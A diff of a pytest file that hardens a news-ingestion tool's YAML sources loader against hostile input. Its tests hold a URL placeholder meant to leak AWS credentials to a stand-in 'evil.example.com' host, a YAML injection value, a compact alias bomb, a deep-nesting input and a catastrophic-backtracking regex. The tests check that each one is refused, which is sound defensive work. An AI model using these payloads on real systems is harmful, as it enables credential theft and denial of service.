@@ -1,6 +1,13 @@
+import signal
+import time
+from contextlib import contextmanager
+
 import pytest
 
-from newsingest.sources import load_sources, load_sources_file
+from newsingest.discovery.filters import filter_candidates
+from newsingest.discovery.model import Candidate
+from newsingest.models import EntryHints
+from newsingest.sources import MAX_YAML_NODES, load_sources, load_sources_file
 
 GOOD = """\
 sources:
@@ -57,7 +64,9 @@ def test_a_good_file_loads():
 
 
 def test_every_problem_is_located_and_good_sources_still_load():
-    sources, problems = load_sources(MANY_ERRORS, env={"STAGING_HOME": "https://staging.example.com/"})
+    sources, problems = load_sources(
+        MANY_ERRORS, env={"STAGING_HOME": "https://staging.example.com/"}, allowed=["STAGING_HOME", "MISSING"]
+    )
     assert [s.id for s in sources] == ["good", "staging"]
     assert str(sources[1].homepage) == "https://staging.example.com/"
     assert [p.location for p in problems] == [location for location, _ in EXPECTED]
@@ -98,7 +107,7 @@ def test_broken_files_say_where_and_why(text, where, words):
 
 def test_placeholders_cannot_inject_yaml():
     text = "sources:\n  - id: x\n    name: ${NAME}\n    homepage: https://x.example.com/\n"
-    sources, problems = load_sources(text, env={"NAME": "evil\nenabled: false"})
+    sources, problems = load_sources(text, env={"NAME": "evil\nenabled: false"}, allowed=["NAME"])
     assert problems == []
     assert sources[0].name == "evil\nenabled: false"
     assert sources[0].enabled
@@ -113,3 +122,111 @@ def test_load_sources_file(tmp_path):
     missing = load_sources_file(tmp_path / "absent.yaml")
     assert missing[0] == []
     assert "cannot read" in missing[1][0].message
+
+
+# --- hostile sources files ----------------------------------------------------------------------
+
+CREDENTIALS = {
+    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
+    "AWS_SESSION_TOKEN": "IQoJb3JpZ2luX2VjEXAMPLETOKEN",
+    "AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE",
+    "SITE_HOME": "https://site.example.com",
+}
+
+
+@contextmanager
+def deadline(seconds: float):
+    """Fail instead of hanging: without the guard under test these loads run for minutes."""
+
+    def expire(_signum, _frame):
+        raise TimeoutError(f"still loading after {seconds} s")
+
+    previous = signal.signal(signal.SIGALRM, expire)
+    signal.setitimer(signal.ITIMER_REAL, seconds)
+    try:
+        yield
+    finally:
+        signal.setitimer(signal.ITIMER_REAL, 0)
+        signal.signal(signal.SIGALRM, previous)
+
+
+@pytest.mark.parametrize("name", ["AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_ACCESS_KEY_ID"])
+def test_credentials_are_never_filled_in_even_when_listed(name):
+    text = f"sources:\n  - id: x\n    name: X\n    homepage: https://evil.example.com/?k=${{{name}}}\n"
+    for allowed in ([name], ["AWS_*"], ["*"]):
+        sources, problems = load_sources(text, env=CREDENTIALS, allowed=allowed)
+        assert sources == []
+        assert name in problems[0].message and "not allowed" in problems[0].message
+        assert CREDENTIALS[name] not in str(problems)
+
+
+def test_only_placeholders_on_the_allow_list_are_filled():
+    text = "sources:\n  - id: x\n    name: X\n    homepage: ${SITE_HOME}/\n"
+    assert load_sources(text, env=CREDENTIALS)[0] == []  # no allow-list: nothing is filled
+    from_env = {**CREDENTIALS, "SOURCE_PLACEHOLDERS": "OTHER, SITE_*"}
+    sources, problems = load_sources(text, env=from_env)
+    assert problems == []
+    assert str(sources[0].homepage) == "https://site.example.com/"
+
+
+BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
+    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(8)
+) + "sources: [*i]\n"
+
+
+def test_an_alias_bomb_is_refused_before_it_expands():
+    assert len(BOMB) < 600  # 9**9 strings once expanded
+    started = time.monotonic()
+    with deadline(10):
+        sources, problems = load_sources(BOMB)
+    assert sources == []
+    assert f"more than {MAX_YAML_NODES} YAML nodes" in problems[0].message
+    assert time.monotonic() - started < 5
+
+
+def test_small_anchors_still_load():
+    text = (
+        "sources:\n  - &base\n    id: a\n    name: A\n    homepage: https://a.example.com/\n"
+        "    exclude: ['/live/']\n  - <<: *base\n    id: b\n"
+    )
+    sources, problems = load_sources(text)
+    assert problems == []
+    assert [(s.id, s.exclude) for s in sources] == [("a", ["/live/"]), ("b", ["/live/"])]
+
+
+def test_deep_nesting_is_refused_not_a_crash():
+    sources, problems = load_sources("sources: " + "[" * 5_000 + "]" * 5_000)
+    assert sources == []
+    assert "nested too deeply" in problems[0].message or "not valid YAML" in problems[0].message
+
+
+def test_patterns_run_without_backtracking():
+    """`(a+)+$` takes Python's re exponential time on 'aaaa...!'; RE2 is linear."""
+    text = (
+        "sources:\n  - id: x\n    name: X\n    homepage: https://x.example.com/\n"
+        "    exclude: ['(a+)+$']\n"
+    )
+    (source,), problems = load_sources(text)
+    assert problems == []
+    hostile = Candidate("https://x.example.com/" + "a" * 5000 + "!", "feed", EntryHints())
+    plain = Candidate("https://x.example.com/news/aaa", "feed", EntryHints())
+    with deadline(10):
+        kept, skipped = filter_candidates(source, [hostile, plain])
+    assert [c.url for c in kept] == [hostile.url]  # '!' ends it: no match, kept
+    assert [c.url for c, _reason, _detail in skipped] == [plain.url]
+
+
+@pytest.mark.parametrize("pattern", [r"/(?=news)", r"(\w+)-\1", r"(?<!amp)/story"])
+def test_patterns_re2_cannot_run_are_reported_with_why(pattern):
+    text = f"sources:\n  - id: x\n    name: X\n    homepage: https://x.example.com/\n    include: ['{pattern}']\n"
+    sources, problems = load_sources(text)
+    assert sources == []
+    assert "RE2" in problems[0].message and "lookahead" in problems[0].message
+
+
+def test_python_end_anchor_means_the_same_under_re2():
+    from newsingest.models.source import url_pattern
+
+    assert url_pattern(r"\.html\Z").search("https://x.example.com/a.html")
+    assert not url_pattern(r"\.html\Z").search("https://x.example.com/a.html?x=1")
+    assert url_pattern(r"\\Z").search("a\\Z")  # an escaped backslash, then a literal Z
